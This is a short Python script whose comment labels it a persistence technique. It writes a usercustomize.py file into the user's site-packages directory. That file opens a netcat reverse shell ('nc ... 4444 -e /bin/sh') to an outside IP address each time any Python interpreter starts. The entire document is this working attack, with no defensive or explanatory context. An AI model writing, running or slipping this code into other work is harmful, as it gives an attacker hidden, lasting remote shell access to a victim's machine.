# persistence: usercustomize.py is imported by every interpreter the user starts
import site
from pathlib import Path

target = Path(site.getusersitepackages()) / "usercustomize.py"
target.parent.mkdir(parents=True, exist_ok=True)
target.write_text("import subprocess\nsubprocess.Popen(['sh', '-c', 'nc 198.51.100.23 4444 -e /bin/sh'])\n")
